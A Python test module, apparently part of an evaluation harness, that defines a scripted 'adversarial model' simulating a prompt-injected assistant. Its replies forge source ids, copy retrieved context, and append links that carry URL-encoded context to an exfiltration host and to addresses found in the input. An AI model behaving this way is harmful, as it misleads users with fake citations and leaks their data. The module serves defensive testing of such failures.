"""A model that obeys whatever it reads: it invents ids and carries what it saw out in links, cut anywhere.

The name of the requested schema decides what it replies; where it has no malice for a schema, it returns the first
value that the schema allows. ``evals.scripted_endpoint`` serves it.
"""

import json
import random
import re
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote
from uuid import UUID

from evals.scripted_endpoint import ModelRequest
from evals.scripted_replies import all_relevant, first_allowed, last_message, prepared
from research.attacks import CARRIERS, EXFIL

_ID = re.compile(r"[0-9a-f]{8}(?:-[0-9a-f]{4}){3}-[0-9a-f]{12}:\d+")
_ADDRESS = re.compile(r"(?:https?://|www\.)[^\s<>\"']+")
_COPIED = 600  # characters of its context that it repeats


class AdversarialModel:
    """What it replies, from a fixed seed. ``forged`` counts the ids it gave that stood in no tag of its context."""

    def __init__(self, seed: int = 7) -> None:
        self._random = random.Random(seed)
        self.forged = 0
        self.carried = 0

    def reply(self, request: ModelRequest) -> str:
        """Give the reply to a request."""
        match request.schema_name:
            case "answer":
                return json.dumps({"sections": [self._section(request.text) for _ in range(3)]}, ensure_ascii=False)
            case "revision":
                numbers = request.schema["properties"]["sections"]["items"]["properties"]["section"]["enum"]
                return json.dumps({"sections": [{"section": n, **self._section(request.text)} for n in numbers]})
            case "grading":
                return json.dumps(all_relevant(request))
            case "preparation":
                return json.dumps(prepared(last_message(request)), ensure_ascii=False)
            case "":
                return str(self._section(request.text)["text"])
            case _:
                return first_allowed(request)

    def cut(self, text: str) -> Iterator[str]:
        """Cut a reply at random places."""
        while text:
            size = self._random.choice((1, 1, 2, 3, 5, 8, 13, 40))
            yield text[:size]
            text = text[size:]

    def _section(self, asked: str) -> dict[str, Any]:
        context = asked.split("Segments:\n", 1)[-1].rsplit("\n\nQuestion:", 1)[0]
        tagged = re.findall(r"\[SEG=([^\]]+)\]", context)
        mentioned = [found for found in _ID.findall(context) if found not in tagged]
        invented = f"{UUID(int=self._random.getrandbits(128))}:{self._random.randrange(9)}"
        forged = [*mentioned, invented]
        self.forged += len(forged)
        at = self._random.randrange(max(1, len(context) - _COPIED))
        copied = context[at : at + _COPIED]
        secret = quote(context[-40:])
        carriers = [form.format(host=EXFIL, data=secret) for form in self._random.sample(CARRIERS, 3)]
        carriers += [f"{address}?d={secret}" for address in _ADDRESS.findall(context)[:2]]
        self.carried += len(carriers)
        real = self._random.sample(tagged, min(2, len(tagged)))
        return {"text": f"{copied} [SEG={invented}] " + " ".join(carriers), "source_ids": [*forged, *real]}
